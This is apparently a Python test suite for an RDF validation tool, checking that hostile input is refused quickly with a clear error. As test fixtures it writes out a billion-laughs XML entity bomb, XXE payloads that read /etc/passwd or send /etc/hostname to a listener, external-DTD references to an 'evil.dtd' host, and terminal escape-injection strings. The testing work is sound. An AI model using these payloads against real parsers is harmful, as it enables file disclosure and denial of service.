"""Hostile input stays bounded: refused fast, in little memory, exit 2, a clear message.

* XML with a DOCTYPE (an entity-expansion bomb, an external entity, an external
  DTD) is refused by the defusedxml screen before any RDF parser sees it;
* a JSON-LD remote context is not fetched;
* a file over the input cap (:data:`aikg.load.MAX_INPUT_BYTES`) is refused;
* all 94 negative-syntax cases of the W3C Turtle suite are rejected, read from
  ``$AIKG_SHARED/w3c-tests/rdf-turtle`` (default ``../shared``; none is copied
  into the repository). They skip visibly when it is absent, unless ``CI=true``;
* and the readers' defects of issue 11 (item 5 and 6): deep JSON-LD, tokens over
  the parser's limit, FIFOs, RDF 1.2, a BOM, relative IRIs and ``--base``, the
  format of a symbolic link, control characters, typed API errors, parameter
  messages, the profile checker offline, and your data answered with ours.
"""

from __future__ import annotations

import os
import re
import resource
import subprocess
import sys
import time
from pathlib import Path

import pyoxigraph as ox
import pytest
from netguard import Listener, canary_fixture, listener_fixture  # noqa: F401

from aikg.cli_validate import EXIT_BAD_INPUT, main
from aikg.load import MAX_INPUT_BYTES

REPO = Path(__file__).resolve().parent.parent
RDF_NS = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"

#: The classic "billion laughs", ten levels deep (10^9 "lol"s, about 3 GB expanded).
BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + f']>\n<rdf:RDF xmlns:rdf="{RDF_NS}">\n'
    + '  <rdf:Description rdf:about="https://example.org/x"><rdf:value>&lol9;</rdf:value></rdf:Description>\n'
    + "</rdf:RDF>\n"
)
XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE r [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
    f'<rdf:RDF xmlns:rdf="{RDF_NS}">\n'
    '  <rdf:Description rdf:about="https://example.org/x"><rdf:value>&xxe;</rdf:value></rdf:Description>\n'
    "</rdf:RDF>\n"
)
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF SYSTEM "http://example.org/evil.dtd">\n'
    f'<rdf:RDF xmlns:rdf="{RDF_NS}"/>\n'
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote; ]>\n'
    f'<rdf:RDF xmlns:rdf="{RDF_NS}"/>\n'
)


def _refused_fast(path: Path, capsys: pytest.CaptureFixture[str], memory_kib: int = 50 * 1024) -> str:
    """Run ``aikg validate PATH`` in this process: exit 2, well under a second, small memory."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    code = main([str(path)])
    elapsed = time.perf_counter() - started
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    out, err = capsys.readouterr()
    assert code == EXIT_BAD_INPUT, out + err
    assert elapsed < 0.5, f"{path.name} took {elapsed:.2f} s to refuse"
    assert after - before < memory_kib, f"{path.name} raised peak memory by {(after - before) // 1024} MiB"
    assert out == ""
    return err


@pytest.mark.parametrize(
    "name,text",
    [
        ("bomb.rdf", BOMB),
        ("xxe.rdf", XXE),
        ("external-dtd.owl", EXTERNAL_DTD),
        ("parameter-entity.rdf", PARAMETER_ENTITY),
    ],
)
def test_xml_with_a_doctype_is_refused_at_once(
    name: str, text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    err = _refused_fast(path, capsys)
    assert re.match(rf"^{re.escape(str(path))}:2:\d+: refused", err), err
    assert "DOCTYPE" in err or "DTD" in err


def test_bomb_in_a_child_process_stays_small(tmp_path: Path) -> None:
    """Measured from outside: the whole process, Python start-up included, stays small."""
    path = tmp_path / "bomb.rdf"
    path.write_text(BOMB, encoding="utf-8")
    # A wrapper process reports its own child's peak: this test process's RUSAGE_CHILDREN
    # would include every earlier test's subprocesses.
    wrapper = (
        "import resource, subprocess, sys\n"
        "command = [sys.executable, '-m', 'aikg.cli_validate', sys.argv[1]]\n"
        "done = subprocess.run(command, capture_output=True, text=True)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
        "sys.exit(done.returncode)\n"
    )
    started = time.perf_counter()
    completed = subprocess.run(
        [sys.executable, "-c", wrapper, str(path)], capture_output=True, text=True, timeout=30, cwd=REPO
    )
    elapsed = time.perf_counter() - started
    peak_kib = int(completed.stdout.strip().splitlines()[-1])
    assert completed.returncode == EXIT_BAD_INPUT, completed.stderr
    assert "refused" in completed.stderr
    assert elapsed < 10, f"refusing the bomb took {elapsed:.1f} s including start-up"
    assert peak_kib < 300 * 1024, f"peak memory {peak_kib // 1024} MiB"


def test_json_ld_remote_context_is_not_fetched(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "remote.jsonld"
    path.write_text(
        '{"@context": "https://example.org/context.jsonld", "@id": "https://example.org/x", "name": "x"}',
        encoding="utf-8",
    )
    err = _refused_fast(path, capsys)
    assert err.startswith(str(path)) and "remote context" in err


def test_file_over_the_size_cap_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "huge.ttl"
    with path.open("wb") as handle:  # sparse: costs no disk
        handle.truncate(MAX_INPUT_BYTES + 1)
    # aikg.load reads up to the cap before refusing, so memory stays within it.
    err = _refused_fast(path, capsys, memory_kib=MAX_INPUT_BYTES // 1024 + 16 * 1024)
    assert err.startswith(f"{path}: ") and "larger than" in err and "input cap" in err, err


def test_deeply_nested_turtle_is_handled(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "deep.ttl"
    depth = 20_000
    path.write_text(
        "<https://example.org/x> <https://example.org/p> "
        + "[ <https://example.org/p> " * depth
        + "1"
        + " ]" * depth
        + " .\n",
        encoding="utf-8",
    )
    started = time.perf_counter()
    code = main(["--no-shipped", str(path)])
    capsys.readouterr()
    assert code in (0, 1) and time.perf_counter() - started < 60


# --------------------------------------------------------------------------- W3C Turtle suite


MF = "http://www.w3.org/2001/sw/DataAccess/tests/test-manifest#"
RDFT = "http://www.w3.org/ns/rdftest#"


def _negative_syntax_cases(suite: Path) -> list[Path]:
    manifest = suite / "manifest.ttl"
    store = ox.Store()
    store.load(path=str(manifest), format=ox.RdfFormat.TURTLE, base_iri=manifest.as_uri())
    query = f"SELECT ?action WHERE {{ ?test a <{RDFT}TestTurtleNegativeSyntax> ; <{MF}action> ?action }}"
    cases = []
    for row in store.query(query):  # type: ignore[union-attr]
        iri = row[0].value  # type: ignore[index,union-attr]
        assert iri.startswith("file://"), iri
        cases.append(Path(iri[len("file://") :]))
    return sorted(cases)


def test_w3c_turtle_negative_syntax_cases_are_rejected(
    shared_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    suite = shared_dir / "w3c-tests" / "rdf-turtle"
    if not (suite / "manifest.ttl").is_file():
        if os.environ.get("CI") == "true":
            pytest.fail(f"{suite}/manifest.ttl is missing (CI=true)")
        pytest.skip(f"W3C Turtle suite not found at {suite}")
    cases = _negative_syntax_cases(suite)
    assert len(cases) == 94
    accepted = []
    for case in cases:
        code = main(["--no-shipped", str(case)])
        out, err = capsys.readouterr()
        if code != EXIT_BAD_INPUT or out or not re.match(rf"^{re.escape(str(case))}:\d+:\d+: \S", err):
            accepted.append((case.name, code, err.strip()[:120]))
    assert accepted == [], accepted


def test_no_w3c_case_is_copied_into_the_repository() -> None:
    names = {p.name for p in REPO.rglob("turtle-syntax-bad-*")}
    assert names == set()


# --------------------------------------------------------------------------- readers (issue 11)

from aikg import api, rdfread  # noqa: E402
from aikg.cli import main as aikg_main  # noqa: E402
from aikg.errors import AikgError, AikgInputError, AikgSyntaxError  # noqa: E402
from aikg.load import load_profile, parse_file  # noqa: E402
from aikg.query import InvalidParameterError, QueryInputError, QuerySyntaxError  # noqa: E402

EX = "https://example.org/hostile/"


def _aikg(*args: str, timeout: float = 120, stdin: bytes | None = None) -> subprocess.CompletedProcess[str]:
    """aikg in a real process: a crash or a hang would take the test run down with it otherwise."""
    return subprocess.run(
        [sys.executable, "-m", "aikg", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=REPO,
        input=None if stdin is None else stdin.decode(),
    )


def test_deeply_nested_json_ld_is_refused_before_parsing_with_its_position(tmp_path: Path) -> None:
    """9,000 nested node objects (189 KB) segfaulted pyoxigraph's JSON-LD parser on main (exit 139),
    and 2,000 took 5 s and 800 MB; now refused at level 101, at once."""
    path = tmp_path / "deep.jsonld"
    depth = 9_000
    path.write_text('{"https://example.org/p": ' * depth + "1" + "}" * depth)
    started = time.perf_counter()
    done = _aikg("query", "-", "--data", str(path), stdin=b"ASK { ?s ?p ?o }")
    assert done.returncode == EXIT_BAD_INPUT, done.stderr
    column = 1 + 100 * len('{"https://example.org/p": ')
    assert done.stderr.startswith(f"{path}:1:{column}: JSON nested deeper than 100 levels"), done.stderr
    assert done.stdout == "" and time.perf_counter() - started < 30


def test_a_json_string_over_the_token_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "long.jsonld"
    path.write_text(
        '{"@id": "https://example.org/x",\n "https://example.org/p": "' + "x" * (16 * 1024 * 1024) + '"}'
    )
    with pytest.raises(AikgSyntaxError) as refused:
        parse_file(path)
    assert (refused.value.line, refused.value.column) == (2, 27)
    assert "parser's limit" in refused.value.message


@pytest.mark.parametrize("kind", ["literal", "iri"])
def test_a_token_over_16_mib_is_refused_cleanly(kind: str, tmp_path: Path) -> None:
    path = tmp_path / f"long-{kind}.ttl"
    big = "x" * (16 * 1024 * 1024 + 10)
    term = f'"{big}"' if kind == "literal" else f"<https://example.org/{big}>"
    path.write_text(f"@prefix ex: <{EX}> .\nex:s ex:p {term} .\n")
    done = _aikg("query", "-", "--data", str(path), stdin=b"ASK { ?s ?p ?o }")
    assert done.returncode == EXIT_BAD_INPUT, done.stderr[-500:]
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
    assert f"{path}:2:11: a literal or IRI longer than" in done.stderr


def test_a_fifo_named_ttl_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "data.ttl"
    os.mkfifo(fifo)
    done = _aikg("query", "-", "--data", str(fifo), stdin=b"ASK { ?s ?p ?o }", timeout=60)
    assert done.returncode == EXIT_BAD_INPUT
    assert f"{fifo}: is a FIFO (named pipe), not a regular file" in done.stderr
    with pytest.raises(AikgInputError, match="not a regular file"):
        parse_file(fifo)


def test_a_folder_or_a_device_is_not_read(tmp_path: Path) -> None:
    folder = tmp_path / "folder.ttl"
    folder.mkdir()
    with pytest.raises(AikgInputError, match="folder"):
        parse_file(folder)
    with pytest.raises(AikgInputError, match="device"):
        rdfread.read_input("/dev/zero")


@pytest.mark.parametrize(
    ("name", "text", "what", "position"),
    [
        (
            "triple-term.ttl",
            f"@prefix ex: <{EX}> .\nex:a ex:says << ex:b ex:c ex:d >> .\n",
            "triple term",
            (2, 14),
        ),
        (
            "reified.ttl",
            f"@prefix ex: <{EX}> .\nex:a ex:says <<( ex:b ex:c ex:d )>> .\n",
            "triple term",
            (2, 14),
        ),
        ("version.ttl", f'VERSION "1.2"\n@prefix ex: <{EX}> .\nex:a ex:b ex:c .\n', "VERSION", (1, 1)),
        ("direction.ttl", f'@prefix ex: <{EX}> .\nex:a ex:b "x"@en--rtl .\n', "base direction", (2, 14)),
        ("triple-term.nt", f"<{EX}a> <{EX}b> <<( <{EX}c> <{EX}d> <{EX}e> )>> .\n", "triple term", None),
    ],
)
def test_rdf_1_2_is_refused_with_a_clear_message(
    name: str, text: str, what: str, position: tuple[int, int] | None, tmp_path: Path
) -> None:
    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(AikgSyntaxError) as refused:
        parse_file(path)
    assert "RDF 1.2" in refused.value.message and what in refused.value.message
    if position is not None:
        assert (refused.value.line, refused.value.column) == position
    done = _aikg("query", "-", "--data", str(path), "--engine", "rdflib", stdin=b"ASK { ?s ?p ?o }")
    assert done.returncode == EXIT_BAD_INPUT and "Traceback" not in done.stderr


def test_rdf_xml_1_2_markup_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "v.rdf"
    path.write_text(
        f'<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="{RDF_NS}" rdf:version="1.2">\n'
        '  <rdf:Description rdf:about="https://example.org/x"><rdf:value>1</rdf:value></rdf:Description>\n</rdf:RDF>\n'
    )
    with pytest.raises(AikgSyntaxError, match="RDF 1.2"):
        parse_file(path)


@pytest.mark.parametrize("suffix", [".ttl", ".nt", ".jsonld", ".rdf"])
def test_a_utf8_bom_is_accepted(suffix: str, tmp_path: Path) -> None:
    texts = {
        ".ttl": f'@prefix ex: <{EX}> .\nex:s ex:p "ok" .\n',
        ".nt": f'<{EX}s> <{EX}p> "ok" .\n',
        ".jsonld": f'{{"@id": "{EX}s", "{EX}p": "ok"}}',
        ".rdf": f'<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="{RDF_NS}" xmlns:ex="{EX}">'
        f'<rdf:Description rdf:about="{EX}s"><ex:p>ok</ex:p></rdf:Description></rdf:RDF>\n',
    }
    path = tmp_path / f"bom{suffix}"
    path.write_bytes(b"\xef\xbb\xbf" + texts[suffix].encode())
    (triple,) = parse_file(path)
    assert triple.object.value == "ok"


RELATIVE = '@prefix ex: <https://example.org/vocab/> .\n<thing> ex:label "a thing" .\n'


def test_a_relative_iri_without_a_base_names_base_and_the_option(tmp_path: Path) -> None:
    path = tmp_path / "relative.ttl"
    path.write_text(RELATIVE)
    with pytest.raises(AikgSyntaxError) as refused:
        parse_file(path)
    message = refused.value.message
    assert (refused.value.line, refused.value.column) == (2, 1)
    assert "<thing>" in message and "@base" in message and "--base" in message
    assert "No scheme" not in message


def test_base_resolves_relative_iris_and_no_machine_path_enters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "relative.ttl"
    path.write_text(RELATIVE)
    query = tmp_path / "q.rq"
    query.write_text('SELECT ?s WHERE { ?s <https://example.org/vocab/label> "a thing" }')
    code = aikg_main(
        ["query", str(query), "--data", str(path), "--base", "https://example.org/mine/", "--format", "tsv"]
    )
    out, err = capsys.readouterr()
    assert code == 0, err
    assert out.splitlines()[1:] == ["<https://example.org/mine/thing>"]
    assert str(tmp_path) not in out
    kb = api.load_graph("study", data=[path], base_iri="https://example.org/mine/")
    assert any(t.subject.value == "https://example.org/mine/thing" for t in kb.triples())


def test_w3c_positive_files_with_relative_iris_read_with_a_base(shared_dir: Path) -> None:
    """17 positive W3C files use relative IRIs: refused without a base (naming it), read with one."""
    suite = shared_dir / "w3c-tests" / "rdf-turtle"
    if not (suite / "manifest.ttl").is_file():
        pytest.skip(f"W3C Turtle suite not found at {suite}")
    store = ox.Store()
    store.load(
        path=str(suite / "manifest.ttl"),
        format=ox.RdfFormat.TURTLE,
        base_iri=(suite / "manifest.ttl").as_uri(),
    )
    query = (
        f"SELECT ?action WHERE {{ ?t a ?type ; <{MF}action> ?action . "
        f"FILTER(?type IN (<{RDFT}TestTurtlePositiveSyntax>, <{RDFT}TestTurtleEval>)) }}"
    )
    positives = sorted(Path(row[0].value[len("file://") :]) for row in store.query(query))  # type: ignore[union-attr,index]
    needing_base = []
    for path in positives:
        try:
            parse_file(path)
        except AikgSyntaxError as exc:
            assert "@base" in exc.message and "--base" in exc.message, exc
            needing_base.append(path)
            parse_file(path, base_iri="https://w3c.github.io/rdf-tests/rdf/rdf11/rdf-turtle/" + path.name)
    assert len(needing_base) >= 10


def test_the_format_comes_from_the_name_given_not_the_link_target(tmp_path: Path) -> None:
    turtle = tmp_path / "data.txt"
    turtle.write_text(f"@prefix ex: <{EX}> .\nex:s ex:p ex:o .\n")
    as_ttl = tmp_path / "mine.ttl"
    as_ttl.symlink_to(turtle)
    assert len(parse_file(as_ttl)) == 1
    as_nt = tmp_path / "mine.nt"
    as_nt.symlink_to(tmp_path / "mine.ttl")
    with pytest.raises(AikgSyntaxError) as refused:
        parse_file(as_nt)  # read as N-Triples, where @prefix is an error
    assert refused.value.path == as_nt


def test_control_characters_are_escaped_in_query_tables(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "evil.ttl"
    path.write_text(f'<{EX}s> <{EX}label> "\\u001B]0;pwned\\u0007\\u001B[2J\\u202Eevil" .\n')
    query = tmp_path / "q.rq"
    query.write_text(f"SELECT ?label WHERE {{ ?s <{EX}label> ?label }}")
    assert aikg_main(["query", str(query), "--data", str(path), "--profile", "study"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\u001B]0;pwned" in out and "\\u202e" in out


def test_control_characters_in_an_error_are_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "bad\x1b[31m.ttl"
    path.write_text("this is not turtle\n")
    query = tmp_path / "q.rq"
    query.write_text("ASK { ?s ?p ?o }")
    assert aikg_main(["query", str(query), "--data", str(path)]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\u001b[31m.ttl" in err


# Owned by the SHACL engineer (src/aikg/shacl, validate.py, pytest_plugin.py): written here as
# issue 11 asks; the lead checks they pass.
def test_validate_text_report_escapes_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "labels.ttl"
    path.write_text(
        "@prefix aikg: <https://w3id.org/aikg/ont/> .\n"
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        f'<{EX}law> a aikg:Statute ; rdfs:label "\\u001B[2J\\u001B]0;pwned\\u0007 law"@en .\n'
    )
    main(["--format", "text", "--no-shipped", str(path)])
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err


def test_validate_refuses_a_string_for_a_list_of_files(tmp_path: Path) -> None:  # SHACL engineer's
    from aikg.validate import validate

    path = tmp_path / "one.ttl"
    path.write_text(f"<{EX}s> <{EX}p> <{EX}o> .\n")
    try:
        result = validate(str(path), include_shipped=False)  # type: ignore[arg-type]
    except AikgError:
        return  # a typed error is fine
    except TypeError:
        pytest.fail("validate('file.ttl') raised a bare TypeError")
    assert getattr(result, "files", None) in (None, (path,), [path], (str(path),)) or result.conforms in (
        True,
        False,
    )


def test_assert_conforms_with_no_file_fails(pytester: pytest.Pytester) -> None:  # SHACL engineer's
    pytester.makepyfile("def test_nothing(aikg_assert_conforms):\n    aikg_assert_conforms()\n")
    result = pytester.runpytest("-p", "aikg.pytest_plugin", "-q")
    result.assert_outcomes(failed=1)


@pytest.mark.parametrize(
    ("call", "needle"),
    [
        (lambda: api.ask(123), "not int"),  # type: ignore[arg-type]
        (lambda: api.ask("CQ-06", ["jurisdictionA"]), "mapping"),  # type: ignore[arg-type]
        (lambda: api.run_query(None), "not NoneType"),  # type: ignore[arg-type]
        (lambda: api.run_query("ASK { ?s ?p ?o }", limit="5"), "whole number"),  # type: ignore[arg-type]
        (lambda: api.run_query("ASK { ?s ?p ?o }", engine="jena"), "unknown engine"),  # type: ignore[arg-type]
        (lambda: api.load_graph(3.5), "profile name or a file"),  # type: ignore[arg-type]
        (lambda: api.load_graph("study", data=[42]), "a path"),  # type: ignore[list-item]
        (lambda: api.load_graph("no-such-file.ttl"), "neither a profile"),
    ],
)
def test_api_errors_are_typed(call: object, needle: str) -> None:
    with pytest.raises(QueryInputError, match=needle):
        call()  # type: ignore[operator]


def test_load_graph_reads_one_file_given_as_a_string(tmp_path: Path) -> None:
    path = tmp_path / "mine.ttl"
    path.write_text(f"<{EX}s> <{EX}p> <{EX}o> .\n")
    kb = api.load_graph("study", data=str(path))  # one file, not the characters of its name
    assert kb.data_files == (path,)


@pytest.mark.parametrize("engine", ["oxigraph", "rdflib"])
def test_a_bad_regular_expression_is_bad_input_not_a_traceback(engine: str, tmp_path: Path) -> None:
    done = _aikg(
        "query", "-", "--engine", engine, "--profile", "study",
        stdin=b'SELECT ?s WHERE { ?s ?p ?o FILTER(REGEX(STR(?s), "(")) } LIMIT 1',
    )  # fmt: skip
    assert "Traceback" not in done.stderr
    assert done.returncode in (0, EXIT_BAD_INPUT), done.stderr
    if engine == "rdflib":
        assert done.returncode == EXIT_BAD_INPUT and "regular expression" in done.stderr


def test_a_bad_date_parameter_says_it_expected_a_date(capsys: pytest.CaptureFixture[str]) -> None:
    assert aikg_main(["ask", "CQ-24", "--param", "date=yesterday"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "expected a date (YYYY-MM-DD), got 'yesterday'" in err and "CURIE" not in err
    with pytest.raises(InvalidParameterError, match="expected a date"):
        api.ask("CQ-24", {"date": "yesterday"})


def test_a_syntax_error_in_a_query_is_typed() -> None:
    with pytest.raises(QuerySyntaxError):
        api.run_query("SELECT ?x WHERE { ?x }")


# --------------------------------------------------------------------------- the profile checker offline


def test_profile_checker_refuses_an_xxe_file_and_calls_nobody(tmp_path: Path, listener: Listener) -> None:
    path = tmp_path / "xxe.rdf"
    path.write_text(
        f'<?xml version="1.0"?>\n<!DOCTYPE r [ <!ENTITY xxe SYSTEM "{listener.url}?h=%2Fetc%2Fhostname"> ]>\n'
        f'<rdf:RDF xmlns:rdf="{RDF_NS}">\n'
        '  <rdf:Description rdf:about="https://example.org/x"><rdf:value>&xxe;</rdf:value></rdf:Description>\n'
        "</rdf:RDF>\n"
    )
    done = subprocess.run(
        [sys.executable, "-m", "aikg.profile", str(path)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == EXIT_BAD_INPUT and "DOCTYPE" in done.stderr
    time.sleep(0.1)
    assert listener.hits == []


def test_profile_checker_does_not_follow_imports(java: str, tmp_path: Path, listener: Listener) -> None:
    path = tmp_path / "imports.ttl"
    path.write_text(
        "@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
        f"<{EX}onto> a owl:Ontology ; owl:imports <{listener.url}a.owl> , <{listener.url}b.owl> .\n"
        f"<{EX}C> a owl:Class .\n"
    )
    done = subprocess.run(
        [sys.executable, "-m", "aikg.profile", str(path)], capture_output=True, text=True, timeout=300
    )
    time.sleep(0.1)
    assert listener.hits == [], listener.hits
    assert done.returncode in (0, EXIT_BAD_INPUT, 1), done.stderr
    assert "Traceback" not in done.stderr


# --------------------------------------------------------------------------- your data with ours


TEMPLATE = REPO / "ontology" / "templates" / "new-jurisdiction.ttl"
XY = "https://example.org/aikg-extension/XY"


def test_the_templates_jurisdiction_appears_in_cq13_with_its_real_status(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert aikg_main(["ask", "CQ-13", "--data", str(TEMPLATE), "--format", "csv"]) == 0
    out, err = capsys.readouterr()
    rows = {line.split(",")[0]: line for line in out.splitlines()[1:]}
    assert XY in rows, out
    assert "AnswerBindingApplicable" in rows[XY] and "xy-ai-law" in rows[XY]  # in force, binding: not "none"
    assert "https://w3id.org/aikg/data/EU" in rows  # aikg's own jurisdictions are still there
    assert "+ 1 file(s) of yours" in err


def test_load_graph_of_a_file_answers_over_the_full_profile_plus_the_file(tmp_path: Path) -> None:
    mine = tmp_path / "my.ttl"
    mine.write_text(TEMPLATE.read_text(encoding="utf-8"))
    kb = api.load_graph(mine)
    assert kb.profile == "full" and kb.data_files == (mine,)
    rows = api.ask("CQ-13", graph=kb).as_dicts()
    statuses = {row["jurisdiction"].value: row["status"].value for row in rows}
    assert statuses[XY].endswith("AnswerBindingApplicable")
    assert "https://w3id.org/aikg/data/KZ" in statuses
    assert len(kb.modules) == len(load_profile("full").modules) + 1
